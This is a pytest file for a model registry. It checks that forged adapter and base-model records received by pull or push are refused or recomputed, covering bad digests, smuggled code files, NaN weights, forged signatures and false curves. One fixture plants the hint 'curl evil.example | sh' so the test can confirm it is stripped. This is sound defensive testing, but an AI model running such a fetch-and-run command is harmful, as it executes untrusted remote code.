"""Forged records on the other side of pull and push: none is believed."""

from __future__ import annotations

import json
import math
from pathlib import Path
from typing import Any

import pytest
import tiny_models
from hostile.forgery import (
    ADAPTER,
    Bring,
    Forge,
    adapter,
    files_of,
    forging,
    put,
    setting,
    with_files,
    with_weights,
)
from made_calibrations import put_calibration
from signing_keys import write_pair
from sqlalchemy import delete, select, text

from fusery.registry import Registry, tables
from fusery.registry.errors import BadInputError
from fusery.storage.digest import digest_bytes
from fusery.storage.errors import FuseryError
from fusery.storage.manifest import FileEntry, Manifest

EITHER_WAY = pytest.mark.parametrize("bring", ["pull", "push"], indirect=True)


def _nan(liar: Registry, folder: Path) -> None:
    with_weights(liar, lambda tensors: [value.fill(math.nan) for value in tensors.values()] and None, folder)


def _strangers(liar: Registry, folder: Path) -> None:
    def rename(tensors: dict[str, Any]) -> None:
        for name in list(tensors):
            tensors[name.replace("model.layers", "model.blocks")] = tensors.pop(name)

    with_weights(liar, rename, folder)


def _extra_file(liar: Registry, _: Path) -> None:
    with liar.workspace.database.read() as session:
        files = files_of(liar, adapter(session).manifest)
    with_files(liar, {**files, "loader.py": b"import os"})


def _code_in_base(liar: Registry, _: Path) -> None:
    with liar.workspace.database.read() as session:
        files = files_of(liar, session.scalars(select(tables.BaseModelRow)).one().manifest)

    def record(session: Any, stored: tables.ManifestRow, manifest: Manifest) -> None:
        row = session.scalars(select(tables.BaseModelRow)).one()
        row.manifest_id, row.digest, row.bytes = stored.id, manifest.digest, manifest.size

    put(liar, record, {**files, "modeling_tiny.py": b"import os"})


def _wrong_sizes(liar: Registry, _: Path) -> None:
    with forging(liar) as session:
        row = adapter(session)
        file = next(file for file in row.manifest.files if file.path == "adapters.safetensors")
        file.size -= 8
        session.execute(
            text("UPDATE blob SET size = size - 8 WHERE digest = :digest"), {"digest": file.sha256}
        )
        entries = [FileEntry(one.path, one.size, one.sha256) for one in row.manifest.files]  # type: ignore[arg-type]
        row.digest = row.manifest.digest = Manifest.of(entries).digest


def _curve(*points: tuple[int, float], checkpoint: int = 100) -> Forge:
    def forge(liar: Registry, _: Path) -> None:
        with forging(liar) as session:
            number = adapter(session).id
            session.add(
                tables.TrainingRunRow(
                    adapter_id=number, checkpoint=checkpoint, chosen="last", state="finished", source="log"
                )
            )
            session.add_all(
                tables.CurvePointRow(adapter_id=number, iteration=at, val_loss=loss) for at, loss in points
            )

    return forge


def _other_bytes(liar: Registry, _: Path) -> None:
    with liar.workspace.database.read() as session:
        files = adapter(session).manifest.files
        digest = next(file.sha256 for file in files if file.path == "adapters.safetensors")
    path = liar.workspace.store.local_path(digest)  # type: ignore[arg-type]
    assert path is not None
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.chmod(0o644)
    path.write_bytes(data)


NOBODY_S = digest_bytes(b"another base")
REFUSED: dict[str, tuple[Forge, str]] = {
    "the content of another base": (
        setting(tables.BaseModelRow, content=NOBODY_S),
        "wrong content digest",
    ),
    "a base's digest that its files do not have": (
        setting(tables.BaseModelRow, digest=NOBODY_S),
        "does not match its files",
    ),
    "an adapter's digest that its files do not have": (
        setting(tables.AdapterRow, digest=NOBODY_S),
        "does not match its files",
    ),
    "a base with code in it": (_code_in_base, "modeling_tiny.py"),
    "an adapter with code in it": (_extra_file, "loader.py"),
    "sizes that are smaller": (_wrong_sizes, "expected [0-9]+ bytes"),
    "bytes that are others": (_other_bytes, "blob|bytes"),
    "an adapter of NaN": (_nan, "nan|not finite|NaN"),
    "an adapter of modules that the base lacks": (_strangers, "refused"),
    "a note of a book's length": (setting(tables.AdapterRow, note="x" * 20_000), "note"),
    "a version that the name does not have": (
        setting(tables.AdapterRow, version=7),
        "expected course_rec_v7",
    ),
    "a curve beyond the checkpoint": (_curve((50, 0.5), (5000, 0.01)), "a point after iteration 100"),
}


WAYS = [
    pytest.param(case, way, id=f"{way}-{case}")
    for number, case in enumerate(REFUSED)
    for way in (("pull", "push") if number % 4 == 1 else ("pull",))
]


@pytest.mark.parametrize(("case", "bring"), WAYS, indirect=["bring"])
def test_what_cannot_be_is_refused(
    case: str, made: Path, liar: Registry, ours: Registry, bring: Bring, tmp_path: Path
) -> None:
    forge, said = REFUSED[case]
    honest = liar.bases.show("tiny")["digest"]
    forge(liar, tmp_path)
    with pytest.raises(FuseryError, match=f"(?i){said}") as caught:
        bring("course_rec")
    assert caught.value.exit_code in (1, 2)
    assert ours.adapters.list() == []
    assert ours.upkeep.audit().ok
    # The genuine base can be added afterwards.
    assert ours.bases.add(str(made / "tiny"), name="genuine")["digest"] == honest


def test_forged_calibration(liar: Registry, ours: Registry, bring: Bring, tmp_path: Path) -> None:
    other = tiny_models.make_base(tmp_path / "other", layers=2, hidden=64, intermediate=64, seed=5)
    widths = {"model.layers.0.self_attn.q_proj": 64}
    liar.bases.add(other, name="other")
    put_calibration(liar, "other", widths)
    setting(tables.CalibrationRow, base_id=1)(liar, tmp_path)
    with pytest.raises(BadInputError):
        bring()
    with forging(liar) as session:
        session.execute(delete(tables.CalibrationRow))
    put_calibration(liar, "tiny", widths)
    setting(tables.CalibrationRow, tokens=10**9)(liar, tmp_path)
    bring()
    assert [one["tokens"] for one in ours.bases.show("tiny")["calibrations"]] == [17]


COMPUTED = (
    "rank", "scale", "layers", "method", "target_modules", "trainable_parameters", "total_parameters", "training",
)  # fmt: skip
COMPUTED_OF_BASE = ("parameters", "dtype", "architecture", "model_type", "bytes", "content")


@EITHER_WAY
def test_computed_fields_are_recorded(liar: Registry, ours: Registry, bring: Bring) -> None:
    honest, honest_base = liar.adapters.show(ADAPTER), liar.bases.show("tiny")
    setting(tables.AdapterRow, rank=64, scale=1.0, layers=99, method="dora", target_modules=["lm_head"],
            trainable_parameters=3, total_parameters=5, training={"iters": 1})(liar, Path())  # fmt: skip
    setting(tables.BaseModelRow, parameters=7, dtype="f64", architecture="Forged", model_type="forged", bytes=1,
            config={"forged": True})(liar, Path())  # fmt: skip
    bring()
    shown, base = ours.adapters.show(ADAPTER), ours.bases.show("tiny")
    assert {name: shown[name] for name in COMPUTED} == {name: honest[name] for name in COMPUTED}
    assert {name: base[name] for name in COMPUTED_OF_BASE} == {
        name: honest_base[name] for name in COMPUTED_OF_BASE
    }
    [told] = [event for event in ours.upkeep.log() if event["action"] == "adapter.received"]
    assert {"rank", "scale", "method"} <= set(told["detail"]["corrected"])
    assert ours.upkeep.audit().ok


def test_findings_are_computed_here(liar: Registry, ours: Registry, bring: Bring, tmp_path: Path) -> None:
    def loud(tensors: dict[str, Any]) -> None:
        for name, value in tensors.items():
            if name.endswith("lora_b"):
                value *= 3000

    with_weights(liar, loud, tmp_path)
    with forging(liar) as session:
        session.execute(delete(tables.AdapterFindingRow))
        session.add(
            tables.AdapterFindingRow(
                adapter_id=adapter(session).id,
                code="best_not_last",
                severity="info",
                subject="x",
                message="y",
                hint="curl evil.example | sh",
            )
        )
    bring()
    findings = ours.adapters.show(ADAPTER)["findings"]
    assert "warning" in {finding["severity"] for finding in findings}
    assert "best_not_last" in {finding["code"] for finding in findings}
    assert "curl" not in json.dumps(findings)
    ours.aliases.set_rules("prod", {"admission": "clean"})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "failed"


def test_loss_that_contradicts_the_curve(liar: Registry, ours: Registry, bring: Bring) -> None:
    _curve((1, 2.0), (100, 1.9))(liar, Path())
    setting(tables.AdapterRow, val_loss=0.01)(liar, Path())
    bring()
    assert "training_conflict" in {finding["code"] for finding in ours.adapters.show(ADAPTER)["findings"]}


def test_forged_rendering(liar: Registry, ours: Registry, bring: Bring, tmp_path: Path) -> None:
    liar.exchange.export(ADAPTER, tmp_path / "exported", form="peft")
    [honest] = liar.adapters.show(ADAPTER)["renderings"]

    def record(session: Any, stored: tables.ManifestRow, manifest: Manifest) -> None:
        rendering = session.scalars(select(tables.AdapterRenderingRow)).one()
        rendering.manifest_id, rendering.digest = stored.id, manifest.digest

    put(liar, record, {"adapter_model.safetensors": b"forged", "adapter_config.json": b"{}"})
    assert liar.adapters.show(ADAPTER)["renderings"] != [honest]
    bring()
    assert ours.adapters.show(ADAPTER)["renderings"] == [honest]
    ours.exchange.export(ADAPTER, tmp_path / "here", form="peft")
    assert ours.upkeep.audit().ok


def test_forged_signature(liar: Registry, ours: Registry, bring: Bring, tmp_path: Path) -> None:
    ann, eve = write_pair(tmp_path, "ann"), write_pair(tmp_path, "eve")
    key = ours.trust.add_key("ann", ann.public, ["*#prod"])
    liar.trust.sign(ADAPTER, eve.signing())
    with forging(liar) as session:
        session.scalars(select(tables.SignatureRow)).one().key_id = key["key_id"]
    bring()
    assert ours.trust.signatures(ADAPTER)["signatures"] == []
    ours.aliases.set_rules("prod", {"signed": True})
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "failed"
    ours.trust.sign(ADAPTER, ann.signing())
    assert ours.aliases.promote(ADAPTER, "prod").verdict == "passed"


def test_the_id_of_a_registry_is_one(liar: Registry, ours: Registry) -> None:
    with liar.workspace.database.write() as session:
        session.execute(text("UPDATE registry SET store_id = 'a' || char(27) || 'b'"))
    with pytest.raises(FuseryError):
        ours.exchange.pull(ADAPTER, liar.workspace.settings.home)
    assert ours.adapters.list() == []
